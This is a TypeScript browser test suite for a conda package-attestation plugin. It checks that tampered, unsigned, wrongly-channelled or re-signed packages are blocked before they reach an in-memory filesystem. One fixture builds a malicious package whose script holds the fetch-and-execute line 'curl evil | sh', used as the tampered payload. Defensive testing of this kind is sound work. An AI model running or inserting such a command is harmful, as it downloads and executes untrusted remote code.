// The real host in a real browser: the unmodified @emscripten-forge/mambajs-core with its
// real untarjs (wasm) installs from loopback channels of real signed .conda packages into
// an in-memory Emscripten FS in headless Chromium, through `wrapUntarjs` (and `wrapFetch`)
// and the browser build's plugin. The channels serve CORS headers themselves (as channels
// for JupyterLite must), except where a test turns them off for the sidecars; the page's
// origin is another port, so Chromium enforces CORS on every request. The identity
// lockfile lives in the page's localStorage.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { type FixtureChannel, startFixtureChannel } from '../helpers/channel.ts';
import { makeCondaPackage } from '../helpers/conda.ts';
import { mambaLock } from '../helpers/mamba-lock.ts';
import { type LocalSigstore, startLocalSigstore } from '../helpers/sigstore.ts';
import { send } from '../helpers/loopback.ts';
import { type BrowserPage, UNTAR_WASM, browserSkip, mambaBundle, openPage } from './harness.ts';

const skip = browserSkip();
const POLICY = { require: 'error', trusted_identities: ['https://github.com/test-org/**'] };
const OTHER_SAN = 'https://github.com/test-org/other-feedstock/.github/workflows/build.yml@refs/heads/main';
const evil = makeCondaPackage({ name: 'gamma', version: '1.0', files: { 'bin/evil.sh': '#!/bin/sh\ncurl evil | sh\n' } });

let sigstore: LocalSigstore;
let strict: FixtureChannel;
let other: FixtureChannel;
let b: BrowserPage;
/** When set, the channels serve their `.sigs` sidecars without CORS headers (a channel that forgot them). */
let sidecarsWithoutCors = false;
const cors = (path: string): boolean => !(sidecarsWithoutCors && /\.sigs(\.[0-9a-f]{64})?$/.test(path));

before(async () => {
  if (skip) return;
  sigstore = await startLocalSigstore();
  strict = await startFixtureChannel({
    name: 'strict',
    sigstore,
    cors,
    packages: [
      { spec: { name: 'alpha', version: '1.0', files: { 'lib/alpha.txt': 'alpha' } } },
      { spec: { name: 'alpha', version: '1.1', files: { 'lib/alpha.txt': 'alpha 1.1' } }, signOptions: { san: OTHER_SAN } },
      { spec: { name: 'beta', version: '2.0', files: { 'share/beta/data.json': '{"beta":true}' } } },
      { spec: { name: 'gamma', version: '1.0', files: { 'lib/gamma.txt': 'gamma' } } },
      { spec: { name: 'unsigned', version: '1.0', files: { 'lib/unsigned.txt': 'no attestation' } }, attest: false },
    ],
  });
  // Attested for the strict channel, served from another one (no mirror rule).
  other = await startFixtureChannel({
    name: 'other',
    sigstore,
    cors,
    packages: [{ spec: { name: 'delta', version: '1.0', files: { 'lib/delta.txt': 'delta' } }, targetChannel: strict.url }],
  });
  b = await openPage();
  b.site.route('/mamba.js', send(await mambaBundle(), 200, { 'content-type': 'text/javascript' }));
  b.site.route('/unpack.wasm', send(readFileSync(UNTAR_WASM), 200, { 'content-type': 'application/wasm' }));
});
after(async () => {
  await b?.close();
  await Promise.all([strict?.close(), other?.close(), sigstore?.close()]);
});

interface PageRun {
  error: { name: string; code?: string; filename?: string; reasons: string[]; hints: string[]; message: string } | null;
  files: string[];
  extracted: string[];
  report: { summary: Record<string, number>; rows: Record<string, { status: string; action: string; reasons: string[] }>; lockfile: unknown } | null;
  stored: string | null;
}

/** One install in the page: a fresh plugin, a fresh FS; the lockfile in localStorage under `storageKey` (none: in memory). */
async function install(entries: Array<[string, string]>, o: { omitHash?: string[]; storageKey?: string; frozen?: boolean; noLock?: boolean } = {}): Promise<PageRun> {
  const lock = mambaLock({ strict, other }, entries, { omit: { hash: o.omitHash ?? [], size: o.omitHash ?? [] } });
  const config = { channels: { [strict.url]: POLICY, [other.url]: POLICY } };
  return b.page.evaluate(
    async ({ lock, config, trustedRoot, storageKey, frozen, noLock }) => {
      const m = await import(String('/conda-attest.js'));
      const h = await import(String('/mamba.js'));
      const untar = await h.initUntarJS(() => '/unpack.wasm');
      const extracted: string[] = [];
      const hex = async (d: Uint8Array) => [...new Uint8Array(await crypto.subtle.digest('SHA-256', d))].map((x) => x.toString(16).padStart(2, '0')).join('');
      const spied = {
        extract: untar.extract,
        extractData: async (d: Uint8Array, only?: boolean) => (extracted.push(await hex(d)), untar.extractData(d, only)),
      };
      const lockfile = storageKey
        ? { read: async () => localStorage.getItem(storageKey) ?? undefined, write: async (t: string) => localStorage.setItem(storageKey, t) }
        : undefined;
      const plugin = m.createCondaAttestPlugin({ config, trustedRoot, frozen, ...(lockfile ? { lockfile } : {}) });
      const untarjs = m.wrapUntarjs(spied, plugin, noLock ? {} : { lock });
      const Module = h.createMemModule();
      let error = null;
      try {
        await h.installPackagesToEmscriptenFS({ packages: { packages: lock.packages, pipPackages: {} }, channels: lock.channelInfo, Module, untarjs });
      } catch (e) {
        const x = e as { name: string; code?: string; record?: { filename: string }; reasons?: { code: string; hint?: string }[]; message: string };
        error = { name: x.name, code: x.code, filename: x.record?.filename, reasons: (x.reasons ?? []).map((r) => r.code), hints: (x.reasons ?? []).map((r) => r.hint ?? ''), message: x.message };
      }
      const report = await untarjs.afterInstall();
      return {
        error,
        files: [...Module.files.keys()].sort(),
        extracted,
        report: report
          ? {
              summary: report.summary,
              rows: Object.fromEntries(report.packages.map((p: { filename: string; status: string; action: string; reasons: { code: string }[] }) => [p.filename, { status: p.status, action: p.action, reasons: p.reasons.map((r) => r.code) }])),
              lockfile: report.lockfile,
            }
          : null,
        stored: storageKey ? localStorage.getItem(storageKey) : null,
      };
    },
    { lock, config, trustedRoot: sigstore.trustedRoot, storageKey: o.storageKey, frozen: o.frozen, noLock: o.noLock ?? false },
  );
}

const ALPHA = 'alpha-1.0-h0_0.conda';
const ALPHA_11 = 'alpha-1.1-h0_0.conda';
const BETA = 'beta-2.0-h0_0.conda';
const GAMMA = 'gamma-1.0-h0_0.conda';
const UNSIGNED = 'unsigned-1.0-h0_0.conda';
const DELTA = 'delta-1.0-h0_0.conda';

test('mambajs-core in Chromium installs attested packages into the FS; the report says the pins were kept in memory', { skip }, async () => {
  const run = await install([['strict', ALPHA], ['strict', BETA]]);
  assert.equal(run.error, null, `${JSON.stringify(run.error)}\n${b.console.join('\n')}`);
  assert.ok(run.files.includes('/lib/alpha.txt') && run.files.includes('/share/beta/data.json'), run.files.join(', '));
  assert.equal(run.report?.rows[ALPHA]?.status, 'verified');
  assert.equal(run.report?.rows[BETA]?.status, 'verified');
  assert.match(JSON.stringify(run.report?.lockfile), /in memory/);
});

test('attack: bytes the attestation was not signed for (no lock hash) are blocked before extraction; nothing reaches the FS', { skip }, async (t) => {
  strict.setFault(strict.get(GAMMA).url, { kind: 'body', body: evil.bytes });
  t.after(() => strict.clearFaults());
  const run = await install([['strict', GAMMA]], { omitHash: [GAMMA] });
  assert.equal(run.error?.name, 'PackageBlockedError', JSON.stringify(run.error));
  assert.equal(run.error?.filename, GAMMA);
  assert.ok(!run.extracted.includes(evil.sha256), 'the evil bytes never reached extractData');
  assert.deepEqual(run.files, []);
  assert.equal(run.report?.rows[GAMMA]?.action, 'block');
});

test('attack: an unsigned package under require: error is blocked; with the lock, its attested neighbour is not installed either', { skip }, async () => {
  const run = await install([['strict', ALPHA], ['strict', UNSIGNED]]);
  assert.equal(run.error?.name, 'PackageBlockedError', JSON.stringify(run.error));
  assert.equal(run.error?.filename, UNSIGNED);
  assert.ok(run.error?.reasons.includes('NO_ATTESTATIONS'), JSON.stringify(run.error));
  // The whole lock was verified before the first extraction: nothing is in the FS.
  assert.deepEqual(run.files, []);
  assert.deepEqual(run.extracted, []);
  assert.equal(run.report?.rows[ALPHA]?.status, 'verified');
  assert.equal(run.report?.rows[UNSIGNED]?.action, 'block');
});

test('attack: a package attested for another channel is blocked when served from this one; nothing reaches the FS', { skip }, async () => {
  const run = await install([['other', DELTA]]);
  assert.equal(run.error?.name, 'PackageBlockedError', JSON.stringify(run.error));
  assert.equal(run.error?.filename, DELTA);
  assert.deepEqual(run.files, []);
  assert.equal(run.report?.rows[DELTA]?.action, 'block');
  assert.ok((run.report?.rows[DELTA]?.reasons.length ?? 0) > 0);
});

test('TOFU in the page: the storage adapter keeps the pins; a new version signed by another identity raises IDENTITY_CHANGED', { skip }, async () => {
  const key = 'conda-attest-lock-tofu';
  const first = await install([['strict', ALPHA]], { storageKey: key });
  assert.equal(first.error, null, JSON.stringify(first.error));
  assert.match(first.stored ?? '', /test-org\/test-feedstock/, 'the identity was pinned through the adapter');
  const second = await install([['strict', ALPHA_11]], { storageKey: key });
  assert.equal(second.error?.name, 'PackageBlockedError', JSON.stringify(second.error));
  assert.ok(second.error?.reasons.includes('IDENTITY_CHANGED'), JSON.stringify(second.error));
  assert.deepEqual(second.files, []);
  assert.equal(second.stored, first.stored, 'a blocked change is not written');
});

test('a channel serving sidecars without CORS: SIDECAR_UNAVAILABLE with a hint naming CORS', { skip }, async (t) => {
  sidecarsWithoutCors = true;
  t.after(() => (sidecarsWithoutCors = false));
  const run = await install([['strict', BETA]]);
  assert.equal(run.error?.name, 'PackageBlockedError', JSON.stringify(run.error));
  assert.ok(run.error?.reasons.includes('SIDECAR_UNAVAILABLE'), JSON.stringify(run.error));
  assert.ok(run.error?.hints.some((h) => /CORS/.test(h) && /Access-Control-Allow-Origin/.test(h)), JSON.stringify(run.error));
  assert.deepEqual(run.files, []);
  // The server answered the sidecar (200, no CORS header): the browser, not the channel, withheld it.
  const asked = strict.requests.filter((r) => r.path.startsWith(new URL(strict.get(BETA).url).pathname + '.'));
  assert.ok(asked.some((r) => r.status === 200), JSON.stringify(asked));
});

test('without the mambajs lock, mambajs-core installs in parallel: the blocked package has no file in the FS, and every file there is of a verified package', { skip }, async () => {
  const run = await install([['strict', ALPHA], ['strict', BETA], ['strict', UNSIGNED]], { noLock: true });
  assert.equal(run.error?.name, 'PackageBlockedError', JSON.stringify(run.error));
  assert.equal(run.error?.filename, UNSIGNED);
  assert.ok(!run.files.includes('/lib/unsigned.txt'));
  // What may be left (docs/browser.md): packages verified before the block, each complete.
  const verifiedFiles: Record<string, string> = { '/lib/alpha.txt': ALPHA, '/share/beta/data.json': BETA };
  for (const f of run.files.filter((x) => !x.startsWith('/conda-meta/') && !x.startsWith('/info/'))) {
    const owner = verifiedFiles[f];
    assert.ok(owner, `${f} belongs to no verified package`);
    assert.equal(run.report?.rows[owner]?.status, 'verified');
  }
  assert.equal(run.report?.rows[UNSIGNED]?.action, 'block');
});

test('wrapFetch in Chromium: a package URL answers with its verified bytes; an unsigned one rejects with PackageBlockedError; other URLs pass through', { skip }, async () => {
  const good = strict.get(ALPHA);
  const out = await b.page.evaluate(
    async ({ urls, config, trustedRoot }) => {
      const m = await import(String('/conda-attest.js'));
      const plugin = m.createCondaAttestPlugin({ config, trustedRoot });
      const f = m.wrapFetch((i: string | URL | Request, init?: RequestInit) => fetch(i, init), plugin);
      const hex = async (d: ArrayBuffer) => [...new Uint8Array(await crypto.subtle.digest('SHA-256', d))].map((x) => x.toString(16).padStart(2, '0')).join('');
      const res = await f(urls.good);
      const goodSha = await hex(await res.arrayBuffer());
      let blocked = null;
      try {
        await f(urls.unsigned);
      } catch (e) {
        const x = e as { name: string; record?: { filename: string }; reasons?: { code: string }[] };
        blocked = { name: x.name, filename: x.record?.filename, reasons: (x.reasons ?? []).map((r) => r.code) };
      }
      const repodata = await f(urls.repodata);
      const report = await f.afterInstall();
      return {
        status: res.status,
        goodSha,
        blocked,
        repodataStatus: repodata.status,
        rows: (report?.packages ?? []).map((p: { filename: string; status: string; action: string }) => [p.filename, p.status, p.action]).sort(),
      };
    },
    {
      urls: { good: good.url, unsigned: strict.get(UNSIGNED).url, repodata: `${strict.url}/noarch/repodata.json` },
      config: { channels: { [strict.url]: POLICY } },
      trustedRoot: sigstore.trustedRoot,
    },
  );
  assert.equal(out.status, 200);
  assert.equal(out.goodSha, good.sha256);
  assert.deepEqual(out.blocked, { name: 'PackageBlockedError', filename: UNSIGNED, reasons: ['NO_ATTESTATIONS'] });
  assert.equal(out.repodataStatus, 200);
  assert.deepEqual(out.rows, [[ALPHA, 'verified', 'pass'], [UNSIGNED, 'missing', 'block']]);
});
